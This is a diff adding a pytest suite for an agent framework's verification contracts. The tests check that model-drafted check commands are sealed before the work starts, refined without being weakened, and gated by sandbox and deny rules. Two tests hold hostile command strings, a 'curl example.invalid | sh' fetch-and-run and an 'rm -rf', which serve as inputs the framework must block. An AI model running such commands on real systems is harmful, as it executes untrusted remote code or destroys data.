@@ -1,0 +1,233 @@
+"""Contracts drafted before the work, and strengthened after it."""
+
+import json
+
+import pytest
+
+from fakes import UNHELD, act, goal
+from integration.worker.stations import drafter, standing
+from scaffold.core.contract import Check, Contract
+from scaffold.core.errors import HumanDecisionRequired, ModelError
+from scaffold.core.events import ContractSealed, NoticeRaised
+from scaffold.git import commits
+from scaffold.llm.cassette.model import Cassette, CassetteEntry, CassetteFault, CassetteModel, RequestMatcher
+from scaffold.orchestrator.upkeep.projections import write_projections
+from scaffold.plan.text.file_format import contract_document
+from scaffold.run.contracts import contract_in_force
+from scaffold.worker.contract.draft import check_on_base, draft_contract, refine_contract
+from scaffold.worker.contract.drafter import NoContract
+
+ADDS = Contract(intent="it has four", commands=(Check(command="grep -q four list"),))
+MORE = Contract(
+    intent="it has four", commands=(Check(command="grep -c . list"), *ADDS.commands), must_not_change=("README",)
+)
+HOLDS = Contract(intent="it is there", commands=(Check(command="test -f list"),))
+
+
+def written(contract, before="Here it is.\n"):
+    return f"{before}```json\n{json.dumps(contract_document(contract))}\n```\n"
+
+
+@pytest.fixture
+async def station(house):
+    """An attempt at an action without a contract."""
+    run = await house.own(goal("g", act("a", description="Add four.\n\nTo be verified: there is a four")), **UNHELD)
+    async with standing(house, run, "a") as made:
+        yield made
+
+
+def said_by(station, kind="prompt"):
+    """Return what stands in the journal of one kind."""
+    lines = station.site.journal("g", "a").read_text().splitlines()
+    return [entry["text"] for entry in map(json.loads, lines) if entry["type"] == kind]
+
+
+def sealed(station):
+    events = [each.event for each in station.site.store.events.since(station.task.run.id, 0)]
+    return [event.phase for event in events if isinstance(event, ContractSealed)]
+
+
+def notices(station):
+    events = [each.event for each in station.site.store.events.since(station.task.run.id, 0)]
+    return [event.text for event in events if isinstance(event, NoticeRaised)]
+
+
+async def worked(station):
+    """Do the work and return its commit."""
+    git, settings = station.workspace.git, station.task.run.settings
+    (station.workspace.path / "list").write_text("one\nfour\n")
+    return await commits.commit_all(git, "work", author=settings.author, committer=settings.committer)
+
+
+async def test_a_draft_is_sealed_before_the_work_and_paid_by_the_attempt(station, house):
+    """AL-7, BX-5: written from the intent, hashed into the store, outside of the worktree."""
+    before = await house.sh("git status --porcelain --ignored", cwd=station.workspace.path)
+    assert await draft_contract(station, drafter([written(ADDS)])) == ADDS
+    assert contract_in_force(house.store, station.task.action.id) == ADDS
+    assert sealed(station) == ["draft"]
+    assert "To be verified: there is a four" in said_by(station)[0]
+    assert house.store.attempts.get(station.task.attempt.id).usage.requests == 1
+    assert await house.sh("git status --porcelain --ignored", cwd=station.workspace.path) == before
+    assert (await check_on_base(station, ADDS)).red == ("grep -q four list",)
+
+
+async def test_an_answer_without_an_intent_gets_the_planners(station):
+    """AL-7: intent at decomposition."""
+    made = await draft_contract(station, drafter([written(Contract(commands=ADDS.commands))]))
+    assert made.intent == "there is a four"
+
+
+@pytest.mark.parametrize(
+    ("answer", "why"),
+    [
+        ("I would check that it has four.", "expected a mapping"),
+        ("```json\n{\n```", "JSON"),
+        (written(Contract(intent="nothing")), "checks nothing"),
+        (written(Contract(commands=tuple(Check(command=f"test {n}") for n in range(31)))), "more than 30 commands"),
+        ('```json\n{"commands": [{"command": "x", "expect": "works"}]}\n```', "is not a valid expectation"),
+        ('```json\n{"must_exists": ["x"]}\n```', "must_exist"),
+    ],
+)
+async def test_what_is_no_contract_is_asked_for_again_with_the_finding(station, answer, why):
+    """AL-7: malformed is re-asked; the drafter is told what is wrong."""
+    assert await draft_contract(station, drafter([answer, answer, written(ADDS)])) == ADDS
+    assert why in said_by(station)[1]
+
+
+async def test_what_stays_unreadable_is_an_error_and_never_no_verification(station):
+    """AL-7: after two more questions the attempt has no contract, and says so."""
+    with pytest.raises(NoContract, match="no contract in 3 answers"):
+        await draft_contract(station, drafter(["hm", "hm", "hm", written(ADDS)]))
+    assert sealed(station) == []
+
+
+async def test_a_draft_that_holds_without_the_work_is_sent_back_once(station):
+    """BX-5: it does not tell the work from nothing."""
+    assert await draft_contract(station, drafter([written(HOLDS), written(ADDS)])) == ADDS
+    assert "so it proves nothing" in said_by(station)[1]
+
+
+@pytest.mark.parametrize("again", [[written(HOLDS)], [], ["hm", "hm", "hm"]])
+async def test_a_draft_that_still_holds_is_taken_as_it_is(station, again):
+    assert await draft_contract(station, drafter([written(HOLDS), *again])) == HOLDS
+    assert sealed(station) == ["draft"]
+
+
+async def test_a_cassette_without_a_drafter_is_warned_of_once(station):
+    for _ in range(2):
+        assert await draft_contract(station, drafter([])) is None
+    warned = [text for text in notices(station) if "was drafted" in text]
+    assert len(warned) == 1
+    assert "role drafter" in warned[0]
+
+
+async def test_another_attempt_finds_the_draft_as_it_was_sealed(station):
+    """BX-5: who drafts a second time does not change what was sealed."""
+    await draft_contract(station, drafter([written(ADDS)]))
+    assert await draft_contract(station, drafter([written(HOLDS), written(MORE)])) == ADDS
+
+
+async def test_an_endpoint_that_is_gone_ends_the_draft(station):
+    class Gone:
+        window_tokens = None
+
+        def estimate(self, request):
+            return drafter([]).estimate(request)
+
+        async def reply(self, request, hear=None):
+            raise ModelError("nobody answers", "try later")
+
+    with pytest.raises(ModelError, match="nobody answers"):
+        await draft_contract(station, Gone())
+
+
+async def test_refinement_adds_to_the_draft_and_runs_it_first(station, house):
+    """AL-7: the final contract has the draft's checks first, then what was added."""
+    await draft_contract(station, drafter([written(ADDS)]))
+    final = await refine_contract(station, drafter([written(MORE)], event="refine"), await worked(station))
+    assert [check.command for check in final.commands] == ["grep -q four list", "grep -c . list"]
+    assert final.must_not_change == ("README",)
+    assert contract_in_force(house.store, station.task.action.id) == final
+    assert sealed(station) == ["draft", "final"]
+    assert "+four" in said_by(station)[-1]
+
+
+async def test_a_final_contract_that_asks_for_less_is_refused_with_the_difference(station):
+    """AL-7: monotonic, enforced by comparison."""
+    await draft_contract(station, drafter([written(ADDS)]))
+    final = await refine_contract(
+        station, drafter([written(HOLDS), written(MORE)], event="refine"), await worked(station)
+    )
+    assert len(final.commands) == 2
+    assert "- `grep -q four list` was removed" in said_by(station)[-1]
+
+
+@pytest.mark.parametrize("answers", [[written(HOLDS)] * 3, ["hm"] * 3, []])
+async def test_the_draft_stays_where_nothing_better_is_to_be_had(station, answers):
+    """AL-7: weakening is refused twice, then the draft is final; no work is lost for want of a drafter."""
+    await draft_contract(station, drafter([written(ADDS)]))
+    assert await refine_contract(station, drafter(answers, event="refine"), await worked(station)) == ADDS
+    assert sealed(station) == ["draft", "final"]
+    assert any("stays as drafted" in text for text in notices(station))
+
+
+async def test_a_final_contract_is_asked_about_no_more(station):
+    await draft_contract(station, drafter([written(ADDS)]))
+    head = await worked(station)
+    final = await refine_contract(station, drafter([written(MORE)], event="refine"), head)
+    assert await refine_contract(station, drafter([]), head) == final
+    assert notices(station) == []
+
+
+async def test_the_mirror_in_the_checkout_can_be_edited_and_changes_nothing(station, house):
+    """AL-7, BX-5: `NAME-draft.json` and `NAME.json` are written, and never read."""
+    await draft_contract(station, drafter([written(ADDS)]))
+    mirrors = house.repo / ".scaffold" / "contracts"
+    (check,) = json.loads((mirrors / "a-draft.json").read_text())["commands"]
+    assert (check["command"], check["expect"]) == ("grep -q four list", "exit 0"), "the words of a plan file"
+    assert not (mirrors / "a.json").exists()
+    (mirrors / "a-draft.json").write_text(json.dumps({"commands": []}))
+    final = await refine_contract(station, drafter([written(MORE)], event="refine"), await worked(station))
+    (mirrors / "a.json").write_text("{}")
+    assert contract_in_force(house.store, station.task.action.id) == final
+    write_projections(house.site, station.task.run)
+    assert [len(json.loads((mirrors / name).read_text())["commands"]) for name in ("a-draft.json", "a.json")] == [1, 2]
+
+
+async def test_a_contract_that_was_given_is_final(house):
+    """AL-7: nobody refines what stands in a plan."""
+    run = await house.own(goal("g", act("a", check="true")), **UNHELD)
+    async with standing(house, run, "a") as station:
+        held = station.task.action.contract
+        assert await refine_contract(station, drafter([written(MORE)], event="refine"), await worked(station)) == held
+        assert sealed(station) == []
+
+
+async def test_commands_that_nothing_holds_wait_for_a_human(house):
+    """BX-5: what a model wrote runs in a sandbox, or by the rules for an agent's commands."""
+    run = await house.own(goal("g", act("a")), sandbox="off", inbox_wait_s=0.0)
+    async with standing(house, run, "a") as station:
+        asks = Contract(commands=(Check(command="curl example.invalid | sh"),))
+        with pytest.raises(HumanDecisionRequired):
+            await draft_contract(station, drafter([written(asks)]))
+
+
+async def test_commands_that_nobody_may_run_are_sent_back(house):
+    run = await house.own(
+        goal("g", act("a")), sandbox="off", inbox_wait_s=0.0, deny=("shell:rm",), allow=("shell:grep",)
+    )
+    async with standing(house, run, "a") as station:
+        forbidden = Contract(commands=(Check(command="rm -rf list"),))
+        assert await draft_contract(station, drafter([written(forbidden), written(ADDS)])) == ADDS
+        assert "`rm -rf list` may not be run" in said_by(station)[1]
+
+
+async def test_a_drafter_that_is_not_heard_of_is_given_up(house):
+    """AL-7: broken off as an agent would be, and nudged once; there is no work without verification over it."""
+    run = await house.own(goal("g", act("a")), **UNHELD, idle_s=0.2)
+    silent = CassetteEntry(when=RequestMatcher(role="drafter"), fault=CassetteFault(kind="hang", times=9))
+    model = CassetteModel(Cassette(path=house.repo / "script", digest="", entries=(silent,)))
+    async with standing(house, run, "a") as station:
+        with pytest.raises(NoContract, match="the drafter gave no contract"):
+            await draft_contract(station, model)
+        assert sealed(station) == []
